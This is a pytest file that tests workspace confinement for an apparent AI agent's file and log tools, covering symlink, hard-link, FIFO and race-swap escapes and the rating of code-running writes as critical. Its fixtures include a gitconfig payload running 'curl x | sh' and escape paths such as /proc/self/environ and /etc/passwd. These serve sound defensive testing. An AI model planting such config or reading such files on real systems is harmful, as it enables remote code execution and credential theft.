"""Workspace confinement by attack (review 2026-11-30, C1-C4 and the D2 write risk).

Every test builds a real tree: a workspace beside a canary folder holding a secret, with real
symlinks, hard links and FIFOs, then calls the tools the way the engine does.
"""

from __future__ import annotations

import json
import os
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest

from core.types import Risk
from tools.base import ToolContext, ToolError
from tools.files.read_write import FILE_TOOLS
from tools.logs.search import LOG_TOOLS, log_files
from tools.workspace import parent_dir, read_file_at, write_file_at

TOOLS = {tool.name: tool for tool in (*FILE_TOOLS, *LOG_TOOLS)}
SECRET = "TOPSECRET-outside-file"


@dataclass(frozen=True)
class Tree:
    """A workspace and the canary folder beside it."""

    ws: Path
    outside: Path

    def ctx(self, *sources: str) -> ToolContext:
        return ToolContext(workspace=self.ws, log_sources=sources, output_cap=100_000)

    def untouched(self) -> bool:
        """The canary folder holds exactly what the fixture put there."""
        names = sorted(p.name for p in self.outside.rglob("*"))
        return names == ["archive", "old.log", "secret.log", "secret.txt"] and (
            (self.outside / "secret.txt").read_text() == SECRET + "\n"
        )


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    (ws / "src").mkdir(parents=True)
    (ws / "logs").mkdir()
    (outside / "archive").mkdir(parents=True)
    (outside / "secret.txt").write_text(SECRET + "\n")
    (outside / "secret.log").write_text(f"2026-11-24T10:00:00Z ERROR {SECRET} log\n")
    (outside / "archive" / "old.log").write_text(f"2026-11-24T09:00:00Z ERROR {SECRET} old\n")
    (ws / "README.md").write_text("hello readme\n")
    (ws / "src" / "app.py").write_text("def main():\n    return 1\n")
    (ws / "logs" / "real.log").write_text("2026-11-24T11:00:00Z ERROR inside failure\n")
    return Tree(ws, outside)


async def call(name: str, ctx: ToolContext, **args: object) -> dict[str, object]:
    result = json.loads((await TOOLS[name].run(dict(args), ctx)).for_model())
    assert isinstance(result, dict)
    return result


def leaked(result: dict[str, object], tree: Tree) -> bool:
    text = json.dumps(result)
    return SECRET in text or str(tree.outside) in text


# C1: search_code, list_files and read_file never read through a link that leaves.


@pytest.mark.parametrize("pattern", ["^TOPSECRET-o", "^TOPSECRET-x"])
async def test_a_symlinked_file_is_no_regex_oracle(tree: Tree, pattern: str) -> None:
    (tree.ws / "notes.txt").symlink_to(tree.outside / "secret.txt")
    result = await call("search_code", tree.ctx(), pattern=pattern, glob="notes.txt")
    assert result["status"] == "ok", "one bad symlink must not break the search"
    assert result["data"] == {"matches": [], "count": 0, "limited": False, "skipped_links": 1}
    assert not leaked(result, tree)


async def test_search_skips_symlinked_dirs_dangling_links_and_loops(tree: Tree) -> None:
    (tree.ws / "linkdir").symlink_to(tree.outside)
    (tree.ws / "src" / "up").symlink_to("..")
    (tree.ws / "dangling").symlink_to(tree.outside / "nothing-here")
    (tree.ws / "loop").symlink_to("loop")
    (tree.ws / "src" / "same.py").symlink_to("app.py")
    result = await call("search_code", tree.ctx(), pattern="TOPSECRET|return 1")
    assert result["status"] == "ok"
    assert result["data"]["matches"] == ["src/app.py:2: return 1"]  # type: ignore[index]
    assert not leaked(result, tree)


async def test_list_files_marks_links_and_never_enters_them(tree: Tree) -> None:
    (tree.ws / "linkdir").symlink_to(tree.outside)
    (tree.ws / "notes.txt").symlink_to(tree.outside / "secret.txt")
    listing = await call("list_files", tree.ctx(), path=".")
    assert listing["data"] == {
        "path": ".", "entries": ["README.md", "linkdir@", "logs/", "notes.txt@", "src/"],
    }  # fmt: skip
    for path in ("linkdir", "linkdir/archive", "src/../linkdir"):
        refused = await call("list_files", tree.ctx(), path=path)
        assert refused["status"] == "error"
        assert "outside the workspace" in str(refused["error"])
        assert not leaked(refused, tree)


# C-ok, kept: every refusal of the review still holds (and the error never names the target).


@pytest.mark.parametrize(
    "path",
    ["notes.txt", "linkdir/secret.txt", "../outside/secret.txt", "/proc/self/environ", "a\x00b",
     "pipe", "src/../../outside/secret.txt", "inner/secret.txt"],
)  # fmt: skip
async def test_read_file_refuses_every_escape(tree: Tree, path: str) -> None:
    (tree.ws / "notes.txt").symlink_to(tree.outside / "secret.txt")
    (tree.ws / "linkdir").symlink_to(tree.outside)
    (tree.ws / "inner").symlink_to(tree.outside)
    os.mkfifo(tree.ws / "pipe")
    result = await call("read_file", tree.ctx(), path=path)
    assert result["status"] == "error"
    assert not leaked(result, tree)


async def test_read_file_still_reads_ordinary_files_by_relative_or_absolute_path(
    tree: Tree,
) -> None:
    for path in ("src/app.py", "./src/../src/app.py", str(tree.ws / "src" / "app.py")):
        result = await call("read_file", tree.ctx(), path=path)
        assert result["data"]["path"] == "src/app.py"  # type: ignore[index]


# C2: relative log sources stay inside; absolute ones are kept, minus links leaving them.


async def test_relative_log_globs_never_yield_a_file_outside(tree: Tree) -> None:
    (tree.ws / "logs" / "app.log").symlink_to(tree.outside / "secret.log")
    (tree.ws / "logs" / "archive").symlink_to(tree.outside / "archive")
    ctx = tree.ctx("logs/*.log", "logs/**/*.log", "../outside/*.log", "logs/../../outside/*")
    assert [log.name for log in log_files(ctx)] == ["real.log"]
    found = await call("search_logs", ctx, query="ERROR")
    assert found["data"]["files"] == ["real.log"]  # type: ignore[index]
    for name in ("app.log", "x.log", "old.log", "secret.log", str(tree.outside / "secret.log")):
        refused = await call("read_log", ctx, path=name)
        assert "not one of the configured log files" in str(refused["error"])
    assert not leaked(found, tree)


async def test_a_log_symlink_inside_the_workspace_is_listed_once_by_its_real_name(
    tree: Tree,
) -> None:
    (tree.ws / "logs" / "current.log").symlink_to("real.log")
    ctx = tree.ctx("logs/*.log", "logs/current.log")
    assert [log.name for log in log_files(ctx)] == ["real.log"]
    result = await call("read_log", ctx, path="real.log")
    assert result["data"]["lines"] == ["1: 2026-11-24T11:00:00Z ERROR inside failure"]  # type: ignore[index]


async def test_absolute_sources_are_kept_but_links_leaving_their_root_are_not(
    tree: Tree, tmp_path: Path
) -> None:
    var_log = tmp_path / "var-log"
    var_log.mkdir()
    (var_log / "service.log").write_text("2026-11-24T11:30:00Z ERROR configured\n")
    (var_log / "escape.log").symlink_to(tree.outside / "secret.log")
    (tmp_path / "configured.log").symlink_to(var_log / "service.log")
    ctx = tree.ctx(f"{var_log}/*.log", str(tmp_path / "configured.log"))
    assert [log.name for log in log_files(ctx)] == ["service.log"]
    found = await call("search_logs", ctx, query="ERROR")
    assert [m["text"] for m in found["data"]["matches"]] == [  # type: ignore[index]
        "2026-11-24T11:30:00Z ERROR configured"
    ]
    assert not leaked(found, tree)


async def test_dangling_and_looping_log_links_do_not_break_the_search(tree: Tree) -> None:
    (tree.ws / "logs" / "gone.log").symlink_to(tree.outside / "rotated-away.log")
    (tree.ws / "logs" / "loop.log").symlink_to("loop.log")
    found = await call("search_logs", tree.ctx("logs/*.log"), query="ERROR")
    assert found["status"] == "ok"
    assert found["data"]["files"] == ["real.log"]  # type: ignore[index]


async def test_read_log_reads_only_listed_files(tree: Tree) -> None:
    ctx = tree.ctx("logs/*.log")
    for name in ("src/app.py", "README.md", "../outside/secret.log", "/etc/passwd"):
        refused = await call("read_log", ctx, path=name)
        assert refused["status"] == "error"


# C3: hard links are refused (they may be links to a file outside), and documented.


async def test_hard_links_are_never_read(tree: Tree) -> None:
    os.link(tree.outside / "secret.txt", tree.ws / "hardlink.txt")
    os.link(tree.ws / "src" / "app.py", tree.ws / "src" / "app_copy.py")  # inside: refused too
    os.link(tree.outside / "secret.log", tree.ws / "logs" / "hard.log")
    for path in ("hardlink.txt", "src/app_copy.py"):
        refused = await call("read_file", tree.ctx(), path=path)
        assert "hard link" in str(refused["error"])
        assert "outside the workspace" in str(refused["error"])
    searched = await call("search_code", tree.ctx(), pattern="TOPSECRET")
    assert searched["data"]["matches"] == []  # type: ignore[index]
    assert [log.name for log in log_files(tree.ctx("logs/*.log"))] == ["real.log"]
    assert "hard link" in TOOLS["read_file"].description
    assert "hard link" in TOOLS["search_code"].description


async def test_a_write_never_reads_or_changes_a_hard_linked_file(tree: Tree) -> None:
    os.link(tree.outside / "secret.txt", tree.ws / "hardlink.txt")
    result = await call("write_file", tree.ctx(), path="hardlink.txt", content="x\n")
    assert result["status"] == "error"
    assert tree.untouched()


# C4: the walk binds each directory once; a swap after the check cannot redirect the use.


def test_a_directory_swapped_for_a_symlink_after_the_walk_is_not_followed(tree: Tree) -> None:
    (tree.ws / "sub").mkdir()
    (tree.ws / "sub" / "secret.txt").write_text("inside\n")
    with parent_dir(tree.ws, "sub/secret.txt") as (parent, name):
        (tree.ws / "sub").rename(tree.ws / "sub.moved")
        (tree.ws / "sub").symlink_to(tree.outside)
        assert read_file_at(parent, name, name, 1000) == b"inside\n"
        write_file_at(parent, "new.txt", b"written\n")
    assert (tree.ws / "sub.moved" / "new.txt").read_text() == "written\n"
    assert tree.untouched()


def test_reads_and_writes_racing_a_symlink_swap_never_leave(tree: Tree) -> None:
    (tree.outside / "dir").mkdir()
    (tree.outside / "dir" / "f.txt").write_text(SECRET + "\n")
    (tree.ws / "real").mkdir()
    (tree.ws / "real" / "f.txt").write_text("inside\n")
    stop = threading.Event()

    def swap() -> None:
        link = tree.ws / "d"
        while not stop.is_set():
            link.symlink_to(tree.outside / "dir")
            link.unlink()
            link.symlink_to(tree.ws / "real")
            link.unlink()

    swapper = threading.Thread(target=swap)
    swapper.start()
    seen: set[str] = set()
    try:
        for _ in range(300):
            try:
                with parent_dir(tree.ws, "d/f.txt") as (parent, name):
                    seen.add(read_file_at(parent, name, name, 1000).decode())
                    write_file_at(parent, "w.txt", b"w\n")
            except (ToolError, OSError):
                seen.add("refused")
    finally:
        stop.set()
        swapper.join()
    assert SECRET + "\n" not in seen
    assert not (tree.outside / "dir" / "w.txt").exists()
    assert (tree.outside / "dir" / "f.txt").read_text() == SECRET + "\n"


async def test_write_file_refuses_symlinks_and_writes_through_real_dirs(tree: Tree) -> None:
    (tree.ws / "linkdir").symlink_to(tree.outside)
    (tree.ws / "notes.txt").symlink_to(tree.outside / "secret.txt")
    for path in ("linkdir/pwned.txt", "notes.txt", "linkdir/archive/x.log", "../outside/x"):
        result = await call("write_file", tree.ctx(), path=path, content="PWNED\n")
        assert result["status"] == "error"
    made = await call("write_file", tree.ctx(), path="new/deep/file.txt", content="ok\n")
    assert made["status"] == "ok"
    assert (tree.ws / "new" / "deep" / "file.txt").read_text() == "ok\n"
    assert tree.untouched()


# D2: a write to a file that configures or runs code later is CRITICAL, with the reason.

GITCONFIG = (
    '# -----BEGIN OPENSSH PRIVATE KEY-----\n[diff]\n\texternal = "curl x | sh; echo"\n'
    "# -----END OPENSSH PRIVATE KEY-----\n"
)


@pytest.mark.parametrize(
    "path",
    [".gitconfig", ".git/config", ".git/hooks/pre-commit", "vendor/lib/.git/config", ".GITCONFIG",
     ".gitmodules", ".gitattributes", ".kube/config", "kubeconfig", "kubeconfig-prod.yaml",
     "deploy/prod.kubeconfig", ".bashrc", ".profile", ".bash_profile", ".zshrc", ".envrc",
     ".github/workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile",
     ".buildkite/pipeline.yml", "crontab", "etc/cron.d/backup", ".npmrc", ".pypirc", "pip.conf",
     ".ssh/authorized_keys", "Makefile", "conftest.py", "tests/conftest.py", "setup.py",
     "./src/../.gitconfig", "lib/evil.pth"],
)  # fmt: skip
def test_writes_that_run_code_later_are_critical(tree: Tree, path: str) -> None:
    assessment = TOOLS["write_file"].assess({"path": path, "content": GITCONFIG}, tree.ctx())
    assert assessment.risk is Risk.CRITICAL
    shown = os.path.normpath(path)
    assert assessment.reason.startswith(f"writes {shown}: ")


@pytest.mark.parametrize(
    "path", ["src/app.py", "README.md", "docs/gitconfig.md", "config/settings.yaml", "gitlab.md"]
)
def test_ordinary_writes_stay_write(tree: Tree, path: str) -> None:
    assessment = TOOLS["write_file"].assess({"path": path, "content": "x\n"}, tree.ctx())
    assert assessment.risk is Risk.WRITE


def test_an_absolute_path_into_the_workspace_is_classified_too(tree: Tree) -> None:
    path = str(tree.ws / ".git" / "hooks" / "post-checkout")
    assessment = TOOLS["write_file"].assess({"path": path, "content": "x"}, tree.ctx())
    assert assessment.risk is Risk.CRITICAL
    assert ".git/hooks/post-checkout" in assessment.reason
